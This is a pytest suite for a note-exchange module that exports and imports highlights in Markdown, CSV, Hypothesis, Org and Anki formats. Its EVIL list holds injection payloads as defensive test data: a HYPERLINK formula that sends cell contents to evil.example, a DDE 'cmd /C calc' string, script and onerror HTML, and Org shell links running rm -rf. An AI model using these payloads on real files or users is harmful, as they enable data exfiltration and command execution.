"""Every format: complete, read back where it can be, and nothing breaks out of it."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Sequence
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from reader.notes.exchange import EXPORTS, IMPORTS, Exported, export, read, sniff
from reader.notes.exchange.arrival import Arrived, by_key_url_or_title, by_quote, land
from reader.notes.exchange.markdown import Templates, file_name
from reader.notes.exchange.model import Utf16, utf16_length
from reader.notes.model import Colour, Note

TEXT = "Ein 😀 Satz mit einer wichtigen Stelle darin, und noch ein Satz, der folgt. " * 3
QUOTE = "wichtigen Stelle"
START = TEXT.index(QUOTE)
NOTE = Note(
    id="urn:uuid:6f1c8d2e-2f6e-4d5d-9a0e-2f9e6c2d7b11", exact=QUOTE, prefix="mit einer ",
    suffix=" darin", start=START, end=START + len(QUOTE), comment="Wirklich?\n.. so",
    tags=("öl", "a b"), colour=Colour.PINK, created="2026-03-01T10:00:00+01:00", creator="Anna",
)  # fmt: skip
ITEM = Exported(
    "2026/a.txt", (NOTE,), title="Ein Titel", site="Beispiel", author="B. Autor",
    date="2026-02-28", url="https://example.org/a", language="de", text=TEXT,
)  # fmt: skip

EVIL = [
    "> [!danger]\n```\n---\ntags: evil\n---\n<script>alert(1)</script> %%c%% [[../../x]] #tag",
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1)", "+1", "-2+3|cmd' /C calc'!A0",
    "* heading\n** deeper\n#+end_quote\n#+begin_src sh\nrm\n:END:\n[[shell:rm -rf][x]] {{{macro}}}",
    "{{c1::cloze}}\ttab [sound:x.mp3] \\(x\\) <img src=x onerror=y>", "\x1b[31mred\x07\u202eright",
    "a\r\nb\u2028c\x0bd\x85e", "~~~\n~~~", "1. one\n- two\n+ three\n===\n---\n***", "'=1+1",
    '"', "^id",
    "src_sh{rm} call_x() @@html:x@@ <2026-01-01 Thu> <<target>> <%%(diary)>", "$$x$$ ==y== ![[z]]",
    "\ud800 half", "]]>", "&lt;", "|cell|", "tags:: x", ".tag", "\\.tag", "#separator:comma",
]  # fmt: skip


def evil(text: str) -> Exported:
    note = Note(id=NOTE.id, exact=text, comment=text, tags=(text,), creator=text)
    return Exported(
        text, (note, NOTE), title=text, site=text, author=text, date=text, url=text, language=text
    )


@pytest.mark.parametrize("name", EXPORTS)
def test_every_format_says_quote_comment_and_source(name: str) -> None:
    text = export(name, [ITEM, ITEM])
    assert text.count(QUOTE) >= 2
    assert "Wirklich" in text
    assert "Ein Titel" in text
    assert "öl" in text


@pytest.mark.parametrize("name", EXPORTS)
@pytest.mark.parametrize("text", EVIL)
def test_what_is_exported_is_utf8_without_live_controls(name: str, text: str) -> None:
    made = export(name, [evil(text), evil(text)])
    made.encode("utf-8")
    assert not re.search(
        "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u202e]", made.replace("\r\n", "\n")
    ) or (EXPORTS[name] == ".json")
    assert "\x1b" not in made


@pytest.mark.parametrize("name", EXPORTS)
def test_nothing_to_export_is_a_valid_file(name: str) -> None:
    export(name, []) if name != "markdown" else export(name, [Exported("a", ())])


def test_an_unknown_format_is_named() -> None:
    with pytest.raises(ValueError, match="unknown format 'pdf'"):
        export("pdf", [ITEM])


# Markdown


def kinds(markdown: str) -> list[str]:
    body = re.sub(r"\A---\n.*?\n---\n", "", markdown, flags=re.DOTALL)
    return [token.type for token in MarkdownIt().parse(body)]


@pytest.mark.parametrize("text", EVIL)
def test_nothing_breaks_out_of_markdown(text: str) -> None:
    made = export("markdown", [evil(text)])
    head, body = re.match(r"---\n(.*?)\n---\n(.*)", made, re.DOTALL).groups()  # type: ignore[union-attr]
    fields = dict(row.split(": ", 1) for row in head.split("\n"))
    assert set(fields) <= {
        "title",
        "source",
        "url",
        "author",
        "site",
        "date",
        "language",
        "tags",
        "notes",
    }
    for value in fields.values():
        json.loads(value)
    found = kinds(made)
    assert found.count("heading_open") == 1
    assert not {
        "fence",
        "html_block",
        "hr",
        "bullet_list_open",
        "ordered_list_open",
        "code_block",
    } & set(found)
    assert found.count("blockquote_open") == 4
    tokens = [child for token in MarkdownIt().parse(body) for child in token.children or ()]
    assert not {"html_inline", "code_inline", "image"} & {token.type for token in tokens}
    assert not re.search(r"(?<!\\)(%%|\[\[|\$\$|==)", body)
    assert len(re.findall(r"^\^", body, re.MULTILINE)) == 2
    assert all(row.startswith((">", "^", "# ")) or not row or "evil" in row or "·" in row
               for row in body.split("\n")[4:])  # fmt: skip


def test_a_callout_holds_quote_comment_and_tags() -> None:
    assert export("markdown", [ITEM]).endswith(
        "> [!quote|pink] 2026-03-01\n> wichtigen Stelle\n>\n> > [!note]\n> > Wirklich?\n> > .. so\n"
        ">\n> #öl #a-b\n\n^6f1c8d2e-2f6e-4d5d-9a0e-2f9e6c2d7b11\n"
    )


def test_templates_are_the_readers_and_fill_in_once() -> None:
    templates = Templates("$title: $notes", "[$quote|$comment|$nothing]", front_matter=False)
    item = Exported("a", [Note(id="urn:uuid:1", exact="$title costs $5")], title="T")
    assert export("markdown", [item], templates=templates) == r"T: [\$title costs \$5||$nothing]"


def test_file_names_fit_every_system() -> None:
    for text in [*EVIL, "CON", "a/b\\c", "...", "x" * 300, "nul.txt"]:
        name = file_name(Exported(text, (), title=text))
        assert 0 < len(name) <= 101
        assert not re.search(r'[\\/:*?"<>|\x00-\x1f]', name)
        assert name.casefold() not in {"con", "nul.txt", "..", "."}


# CSV


@pytest.mark.parametrize("text", EVIL)
def test_no_cell_is_a_formula_and_reading_gives_it_back(text: str) -> None:
    made = export("csv", [evil(text)])
    rows = list(csv.reader(io.StringIO(made, newline="")))
    assert len(rows) == 3
    for cell in rows[1]:
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))
    if text.isprintable() and text.strip() and "\ud800" not in text:
        assert read(made, "csv").notes[0].note.exact == text


def test_readwise_columns_and_tags() -> None:
    rows = list(csv.reader(io.StringIO(export("csv", [ITEM]), newline="")))
    columns = ["Highlight", "Title", "Author", "URL", "Note", "Location", "Date", "Color"]
    assert rows[0] == columns
    assert rows[1][7] == NOTE.colour
    assert rows[1][4] == ".öl .a_b\nWirklich?\n\\.. so"
    (arrived,) = read(export("csv", [ITEM])).notes
    assert (arrived.note.tags, arrived.note.comment) == (("öl", "a_b"), NOTE.comment)
    assert (arrived.title, arrived.url, arrived.note.start) == ("Ein Titel", ITEM.url, START)
    assert arrived.note.colour is NOTE.colour


def test_readwise_own_export_is_read() -> None:
    head = "Highlight,Book Title,Note,Color,Tags,Location\n"
    text = head + 'quoted,Book,thought,Pink,"a, b",12\n,Book,,,,\n'
    incoming = read(text)
    assert [(a.note.exact, a.title, a.note.comment, a.note.tags) for a in incoming.notes] == [
        ("quoted", "Book", "thought", ("a", "b"))
    ]
    assert [a.note.colour for a in incoming.notes] == ["pink"]
    assert read(head + "quoted,Book,,orange,,\n", "csv").notes[0].note.colour == "yellow"
    assert incoming.problems == ("line 3: a row without a highlight.",)


# Hypothesis and W3C


@pytest.mark.parametrize(
    "text",
    [
        '\ufeffHighlight,Note,Title\r\n"one, two\nthree",.tag why,A\r\n',
        'Highlight;Note;Title\n"one, two\nthree";.tag why;A\n',
        'highlight\tNOTE\tBook  Title\n"one, two\nthree"\t.tag why\tA\n',
    ],
    ids=["byte order mark", "semicolons", "tabs"],
)
def test_csv_of_spreadsheets_is_read(text: str) -> None:
    incoming = read(text)
    assert not incoming.problems
    (arrived,) = incoming.notes
    note = arrived.note
    assert (note.exact, note.comment, note.tags) == ("one, two\nthree", "why", ("tag",))
    assert arrived.title == "A"


def test_hypothesis_counts_in_utf16() -> None:
    row = json.loads(export("hypothesis", [ITEM]))["rows"][0]
    selectors = {selector["type"]: selector for selector in row["target"][0]["selector"]}
    assert selectors["TextPositionSelector"]["start"] == START + 1
    assert selectors["TextPositionSelector"]["end"] == START + 1 + len(QUOTE)
    assert selectors["TextQuoteSelector"]["exact"] == QUOTE
    assert (row["uri"], row["tags"], row["text"]) == (ITEM.url, ["öl", "a b"], NOTE.comment)


@given(st.text(st.characters(exclude_categories=("Cs",))), st.integers(0, 50))
def test_utf16_offsets_there_and_back(text: str, place: int) -> None:
    place = min(place, len(text))
    assert utf16_length(text) == len(text.encode("utf-16-le")) // 2
    assert Utf16(text).position(utf16_length(text[:place])) == place


def test_an_offset_amid_a_character_or_beyond_the_text_is_the_next_one() -> None:
    offsets = Utf16("a😀b")
    assert [offsets.position(unit) for unit in (0, 1, 2, 3, 4, 9)] == [0, 1, 2, 2, 3, 3]


def test_the_text_of_a_document_is_asked_for_once() -> None:
    rows = [ITEM, ITEM]
    asked: list[str] = []

    def text_of(key: str) -> str:
        asked.append(key)
        return TEXT

    incoming = read(export("hypothesis", rows), "hypothesis")
    report = land(incoming, find=lambda _: "2026/a.txt", text_of=text_of)
    assert (len(report.landed), asked) == (2, ["2026/a.txt"])


@pytest.mark.parametrize("colour", [[], {}, 7, "mauve"])
def test_a_colour_of_another_program_is_no_reason_to_fail(colour: object) -> None:
    row = {**json.loads(export("hypothesis", [ITEM]))["rows"][0], "glosse:colour": colour}
    assert arrive(json.dumps({"rows": [row]}), "hypothesis").colour is Colour.YELLOW


def arrive(text: str, name: str = "") -> Note:
    find = by_key_url_or_title([("2026/a.txt", "http://www.example.org/a/", "Ein Titel")])
    report = land(read(text, name), find=find, text_of={"2026/a.txt": TEXT}.get)
    (landed,) = report.landed
    assert landed.key == "2026/a.txt"
    assert landed.anchor.status == "placed"
    return landed.note


def test_our_json_comes_back_as_it_was() -> None:
    assert arrive(export("json", [ITEM])) == NOTE
    assert arrive(json.dumps(json.loads(export("json", [ITEM]))["items"])) == NOTE


def test_a_collection_knows_its_documents() -> None:
    other = Exported("b.txt", (Note(id="urn:uuid:5", exact="x"),), title="B")
    incoming = read(export("json", [ITEM, other]))
    assert [(a.key, a.title) for a in incoming.notes] == [
        ("2026/a.txt", "Ein Titel"),
        ("b.txt", "B"),
    ]
    assert incoming.notes[0].note == NOTE


def test_hypothesis_json_comes_back() -> None:
    note = arrive(export("hypothesis", [ITEM]))
    for field in ("id", "exact", "prefix", "suffix", "start", "end", "comment", "tags", "colour"):
        assert getattr(note, field) == getattr(NOTE, field)


def test_readwise_rows_are_anchored_and_given_context() -> None:
    note = arrive(export("csv", [ITEM]))
    assert (note.start, note.end) == (START, START + len(QUOTE))
    assert note.suffix.startswith(" darin")
    assert arrive(export("csv", [ITEM])).id == note.id


def test_notes_without_a_document_here_are_reported() -> None:
    report = land(read(export("json", [ITEM])), find=lambda _: None, text_of=lambda _: None)
    assert len(report.homeless) == 1
    assert not report.landed


TEXTS = {
    "a.md": "The ferry came in at\neleven, an hour late. Nobody minded.",
    "b.md": "Nobody minded. The pickers came back with ladders and a radio.",
    "c.md": "The pickers came back with ladders and a radio, on Friday.",
    "d.md": "渡轮在十一点到达晚了一个小时码头上似乎没有人介意这件事情。",
}


@pytest.mark.parametrize(
    ("quote", "key"),
    [
        ("The ferry came in at eleven, an hour", "a.md"),
        ("ferry  came in\nat eleven, an hour late", "a.md"),
        ("with ladders and a radio, on Friday", "c.md"),
        ("The pickers came back with ladders and a radio", None),  # in two
        ("Nobody minded", None),  # short
        ("Extraordinarily-long-word", None),
        ("The ferry left at eleven, an hour late", None),
        ("渡轮在十一点到达晚了一个小时码头上似乎没有人介意", "d.md"),
    ],
)
def test_a_long_quote_tells_the_only_article_in_which_it_stands(
    quote: str, key: str | None
) -> None:
    def holding(words: Sequence[str]) -> list[str]:
        return [key for key, text in TEXTS.items() if words[0] in text]

    find = by_quote(holding, TEXTS.get)
    assert find(Arrived(replace(NOTE, exact=quote), title="Another title")) == key


def test_page_notes_and_replies_are_named_and_passed_by() -> None:
    rows = [{"id": "a", "uri": "https://example.org/", "text": "page note", "target": [{}]}, 3]
    incoming = read(json.dumps({"rows": rows}), "hypothesis")
    assert incoming.notes == ()
    assert len(incoming.problems) == 2


@pytest.mark.parametrize("name", IMPORTS)
@pytest.mark.parametrize(
    "text", ["", "{", "[[", "3", "null", '{"rows": 3}', '"', 'a,"b\nc', "[" * 9000]
)
def test_other_files_are_a_problem_and_no_crash(name: str, text: str) -> None:
    incoming = read(text, name)
    assert incoming.notes == ()
    assert incoming.problems


def test_formats_are_told_by_their_look() -> None:
    for name in IMPORTS:
        assert sniff(export(name, [ITEM])) == name


# Org and Anki


@pytest.mark.parametrize("text", EVIL)
def test_nothing_breaks_out_of_org(text: str) -> None:
    made = export("org", [evil(text)])
    rows = made.split("\n")
    assert [row[:3] for row in rows if row.startswith("*")] == ["* " + rows[2][2:3], "** ", "** "]
    assert len([row for row in rows if row.strip().startswith("#+")]) == 5
    assert len([row for row in rows if row.strip() == ":END:"]) == 3
    assert not re.search(r"\[\[|\{\{|<<|src_\w*[{\[]|call_\w*[(\[]|@@", made)


@pytest.mark.parametrize("text", EVIL)
def test_nothing_breaks_out_of_anki(text: str) -> None:
    rows = export("anki", [evil(text)]).rstrip("\n").split("\n")
    headers = [row for row in rows if row.startswith("#")]
    assert len(headers) == 7
    assert len(rows) == 9
    for row in rows[7:]:
        assert row.count("\t") == 3
        assert not re.search(r"[\[\]{}\\\"]|<(?!/?(?:br|small)>)", row)


@settings(deadline=None)
@given(st.text(max_size=60))
def test_plain_text_keeps_foreign_lines_indented(text: str) -> None:
    made = export("text", [Exported("a", [Note(id="urn:uuid:1", exact=text, comment=text)])])
    rows = made.split("\n")
    assert all(not row or row.startswith("  ") for row in rows[2:])
